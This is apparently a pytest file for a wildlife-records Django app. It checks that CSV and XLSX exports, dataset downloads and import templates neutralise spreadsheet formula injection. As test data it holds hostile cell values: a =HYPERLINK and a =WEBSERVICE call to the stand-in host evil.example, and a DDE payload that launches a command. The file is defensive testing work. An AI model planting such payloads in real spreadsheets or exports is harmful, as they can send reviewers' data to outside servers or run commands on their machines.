"""No text this node writes into a spreadsheet can become a formula (CSV/formula injection).

The API takes a record's notes as the ranger typed them, and stores them so; a note such as
``=HYPERLINK("http://evil.example","x")`` would, opened in Excel or LibreOffice, send a
reviewer's cells to someone else's server. So every CSV and XLSX file on the way out (the
coordinators' live exports, a shared dataset version's downloads, the comparison of two
versions, the import templates) writes a text starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return with a quote in front, and XLSX writes every text as a string cell.

At Khanka Lake (tests/exchange/export_stories.py), ranger_ru files five records of Korean
pine with hostile notes; manager_ru verifies them. coordinator_ru exports them (an internal
export: her own PA's notes as typed) and publishes "Khankaisky pines" at exact precision (a
pine's place is not sensitive, so its notes are published too); outsider, an invited
reviewer, downloads it and compares its versions.
"""

import csv
import datetime as dt
import decimal
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from exchange.models import DatasetVersion
from observations.access import access_for
from observations.imports import template_files
from observations.imports.headers import template_headers
from observations.models import Observation, Species
from observations.records.services import observation_create
from observations.spreadsheet_safety import (
    DANGEROUS_FIRST,
    is_dangerous,
    safe_cell,
    safe_row,
    xlsx_cell,
    xlsx_row,
)

from ..exchange.dataset_stories import fresh, make_dataset, publish_version
from ..exchange.export_stories import client, export_file, make_khanka
from ..waiting import wait_for_answer

HYPERLINK = '=HYPERLINK("http://evil.example","x")'
THROUGH_THE_API = [HYPERLINK, "+1+1", "@SUM(A1)", "-2+3"]
TAB = "\t=1"  # the API trims surrounding blanks: filed through the records service
HOSTILE = [*THROUGH_THE_API, TAB]
PINE = "Pinus koraiensis"  # sensitivity "exact": notes beside it may be published


# --- the rule ---------------------------------------------------------------------------


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_with_a_formula_character_gets_a_quote(first):
    text = f"{first}1+1"
    assert is_dangerous(text)
    assert safe_cell(text) == "'" + text


def test_the_dangerous_characters_are_exactly_owasps():
    assert set("=+-@\t\r") == DANGEROUS_FIRST


@pytest.mark.parametrize(
    "text", ["fresh tracks", "", "'=already quoted", " =1", "1+1", "Тигр", "东北虎", "a=b", "\n=1"]
)
def test_other_texts_stay_as_they_are(text):
    assert not is_dangerous(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        -2,
        -12.5,
        0,
        decimal.Decimal("-132.45"),
        True,
        False,
        None,
        dt.date(2024, 1, 20),
        dt.datetime(2024, 1, 20, 3, 10, tzinfo=dt.UTC),
    ],
)
def test_numbers_dates_booleans_and_none_are_not_text(value):
    """A negative number is a number (a longitude west of Greenwich), never a formula."""
    assert safe_cell(value) is value


def test_a_lazy_translation_is_text():
    assert safe_cell(gettext_lazy("Notes")) == "Notes"


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1", -1, None, "ok", "-x"]) == ["'=1", -1, None, "ok", "'-x"]


def _round_trip(tmp_path, write_only: bool, values):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, values))
    path = tmp_path / "cells.xlsx"
    book.save(path)
    return list(load_workbook(path).worksheets[0].iter_rows())[0]


@pytest.mark.parametrize("write_only", [True, False])
def test_an_xlsx_text_is_a_string_cell_never_a_formula(tmp_path, write_only):
    """Texts are explicit string cells (even ``#N/A``, which openpyxl would make an error
    cell); numbers, dates and blanks keep their own types."""
    when = dt.datetime(2024, 1, 20, 3, 10)
    cells = _round_trip(tmp_path, write_only, ["=1+1", "#N/A", None, "plain", -2.5, 7, when])
    assert [c.data_type for c in cells] == ["s", "s", "n", "s", "n", "n", "d"]
    assert [c.value for c in cells] == ["'=1+1", "#N/A", None, "plain", -2.5, 7, when]


def test_an_xlsx_cell_is_a_string_even_where_the_quote_is_not_needed(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    cell = xlsx_cell(sheet, "1+1")
    assert cell.data_type == "s" and cell.value == "1+1"
    assert xlsx_cell(sheet, "=1").data_type == "s"


# --- read back --------------------------------------------------------------------------


def csv_rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_is_safe(rows):
    """No cell starts a formula: a dangerous first character only in a number."""
    for row in rows:
        for cell in row:
            assert not is_dangerous(cell) or _is_number(cell), cell


def xlsx_sheets(data: bytes, tmp_path) -> dict[str, list]:
    path = tmp_path / "file.xlsx"
    path.write_bytes(data)
    book = load_workbook(path)  # not read-only: every cell with its data type
    sheets = {}
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows())
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_dangerous(cell.value), (sheet.title, cell.coordinate)
        sheets[sheet.title] = rows
    return sheets


def notes_of(rows: list[list], header: str = "Notes") -> set:
    at = rows[0].index(header)
    return {row[at] for row in rows[1:]}


def xlsx_values(rows) -> list[list]:
    return [[cell.value for cell in row] for row in rows]


QUOTED = {"'" + note for note in HOSTILE}


# --- the records --------------------------------------------------------------------------


def file_hostile_records(people) -> list[Observation]:
    """ranger_ru files Korean pine records with the hostile notes (through the API, the tab one
    through the records service), submits them; manager_ru verifies them."""
    ranger, manager = client(people.ranger_ru), client(people.manager_ru)
    ids = []
    for i, note in enumerate(THROUGH_THE_API):
        answer = ranger.post(
            "/api/v1/observations/",
            {
                "protected_area": "RU-KHANKAISKY",
                "species": PINE,
                "observed_at": f"2024-04-{10 + i:02d}T06:00:00Z",
                "latitude": 44.95 + i / 1000,
                "longitude": 132.45,
                "count": 2,
                "evidence": "sighting",
                "notes": note,
            },
            format="json",
        )
        assert answer.status_code == 201, answer.json()
        ids.append(answer.json()["id"])
    record, _created = observation_create(
        access=access_for(people.ranger_ru),
        user=people.ranger_ru,
        values={
            "protected_area": "RU-KHANKAISKY",
            "species": PINE,
            "observed_at": dt.datetime(2024, 4, 20, 6, 0, tzinfo=dt.UTC),
            "latitude": 44.96,
            "longitude": 132.46,
            "count": 1,
            "evidence": "sighting",
            "notes": TAB,
        },
    )
    ids.append(str(record.pk))
    for record_id in ids:
        assert ranger.post(f"/api/v1/observations/{record_id}/submit/").status_code == 200
        assert manager.post(f"/api/v1/observations/{record_id}/verify/").status_code == 200
    records = list(Observation.objects.filter(pk__in=ids))
    # Stored as given: the rule changes the files, never the records.
    assert {r.notes for r in records} == set(HOSTILE)
    assert {r.status for r in records} == {"verified"}
    return records


@pytest.fixture
def hostile(celery_worker, people, khankaisky, xingkaihu):
    make_khanka(people, khankaisky, xingkaihu)
    return file_hostile_records(people)


# --- live exports ---------------------------------------------------------------------


@pytest.mark.celery
def test_the_live_csv_export_quotes_every_formula_like_note(people, hostile):
    _job, data = export_file(people.coordinator_ru, "csv", purpose="internal")
    rows = csv_rows(data)
    assert_csv_is_safe(rows)
    assert notes_of(rows) >= QUOTED
    # The other values are untouched: the stories' tiger's notes, numbers, coordinates.
    assert 'fresh tracks\tcrossing\nthe "ice" \\ west' in notes_of(rows)
    assert "44.95" in {row[rows[0].index("Latitude")] for row in rows[1:]}


@pytest.mark.celery
def test_the_live_xlsx_export_has_no_formula_and_keeps_the_text(people, hostile, tmp_path):
    _job, data = export_file(people.coordinator_ru, "xlsx", purpose="internal")
    sheet = next(iter(xlsx_sheets(data, tmp_path).values()))
    rows = xlsx_values(sheet)
    assert notes_of(rows) >= QUOTED
    notes_at = rows[0].index("Notes")
    assert {row[notes_at].data_type for row in sheet[1:] if row[notes_at].value} == {"s"}
    latitudes = {row[rows[0].index("Latitude")] for row in rows[1:]}
    assert 44.95 in latitudes  # numbers stay numbers


# --- a shared dataset: its version's downloads and the comparison ------------------------


@pytest.fixture
def two_versions(celery_worker, people, khankaisky, xingkaihu):
    """Version 1 of "Khankaisky pines" with one pine and a plain note; version 2 with the
    hostile records (added) and that note changed to a formula (changed). The dataset's
    own description, written by the coordinator, is hostile too (the XLSX "Citation"
    sheet)."""
    dataset, _records = make_dataset(
        people,
        khankaisky,
        xingkaihu,
        title="Khankaisky pines",
        description_en='=WEBSERVICE("http://evil.example/")',
        precision="exact",
        query={"species": [PINE], "protected_areas": ["RU-KHANKAISKY"], "status": ["verified"]},
    )
    pine = Observation.objects.create(
        protected_area=khankaisky,
        species=Species.objects.get(scientific_name=PINE),
        observed_at=dt.datetime(2024, 4, 1, 6, 0, tzinfo=dt.UTC),
        latitude=44.97,
        longitude=132.47,
        count=1,
        evidence="sighting",
        status="verified",
        created_by=people.ranger_ru,
        notes="old pine by the cordon",
    )
    first = publish_version(people, dataset)
    assert first.row_count == 1
    file_hostile_records(people)
    Observation.objects.filter(pk=pine.pk).update(notes="=1+1")
    second = publish_version(people, dataset, note="hostile notes")
    assert second.row_count == 1 + len(HOSTILE)
    return dataset, pine, DatasetVersion.objects.get(pk=second.pk)


def download(person, version: DatasetVersion, fmt: str) -> bytes:
    """An invited reviewer's download of the version, built by the worker."""
    api = client(fresh(person))
    url = f"/api/v1/datasets/{version.dataset_id}/versions/{version.number}/downloads/"
    answer = api.post(url, {"format": fmt}, format="json")
    assert answer.status_code == 202, answer.json()
    job, _seen = wait_for_answer(api, answer["Location"], timeout=120)
    assert job["status"] == "done", job
    return b"".join(api.get(job["download"]).streaming_content)


@pytest.mark.celery
def test_a_dataset_versions_csv_download_is_safe(people, two_versions):
    _dataset, _pine, version = two_versions
    rows = csv_rows(download(people.outsider, version, "csv"))
    assert_csv_is_safe(rows)
    assert QUOTED | {"'=1+1"} <= notes_of(rows)


@pytest.mark.celery
def test_a_dataset_versions_xlsx_download_is_safe(people, two_versions, tmp_path):
    _dataset, _pine, version = two_versions
    sheets = xlsx_sheets(download(people.outsider, version, "xlsx"), tmp_path)
    assert list(sheets) == ["Records", "Citation"]
    assert QUOTED | {"'=1+1"} <= notes_of(xlsx_values(sheets["Records"]))
    about = dict(xlsx_values(sheets["Citation"]))
    assert about["Description (English)"] == """'=WEBSERVICE("http://evil.example/")"""
    assert about["Checksum (SHA-256)"] == version.checksum  # the rest as it was


@pytest.mark.celery
def test_the_comparison_csv_is_safe(people, two_versions):
    dataset, pine, _version = two_versions
    answer = client(fresh(people.outsider)).get(
        f"/api/v1/datasets/{dataset.pk}/compare/csv/?from=1&to=2"
    )
    assert answer.status_code == 200
    rows = csv_rows("".join(part.decode() for part in answer.streaming_content))
    assert_csv_is_safe(rows)
    header, body = rows[0], rows[1:]
    at = header.index("notes")
    assert {row[at] for row in body if row[0] == "added"} == QUOTED
    changed = next(row for row in body if row[1] == str(pine.pk))
    assert changed[0] == "changed" and changed[at] == "'=1+1"
    assert changed[header.index("notes (before)")] == "old pine by the cordon"


# --- import templates ---------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "ru", "zh"])
def test_the_import_templates_hold_the_headers_as_they_are_and_no_formula(
    client, language, tmp_path
):
    headers = template_headers(language)
    answer = client.get(f"/en/imports/template-{language}.csv")
    assert answer.status_code == 200
    assert csv_rows(answer.content) == [headers]
    answer = client.get(f"/en/imports/template-{language}.xlsx")
    assert answer.status_code == 200
    sheets = xlsx_sheets(answer.content, tmp_path)
    assert xlsx_values(sheets["records"]) == [headers]
    assert len(sheets["help"]) == 1 + len(headers)


def test_a_template_header_that_could_start_a_formula_is_quoted(monkeypatch, tmp_path):
    """Headers and help are ours, but translations change: the writer does not trust them."""
    monkeypatch.setattr(
        template_files, "template_headers", lambda language: ["=cmd|' /C calc'!A0", "-2+3"]
    )
    assert csv_rows(template_files.template_csv("en")) == [["'=cmd|' /C calc'!A0", "'-2+3"]]
    sheets = xlsx_sheets(template_files.template_xlsx("en"), tmp_path)
    assert xlsx_values(sheets["records"]) == [["'=cmd|' /C calc'!A0", "'-2+3"]]
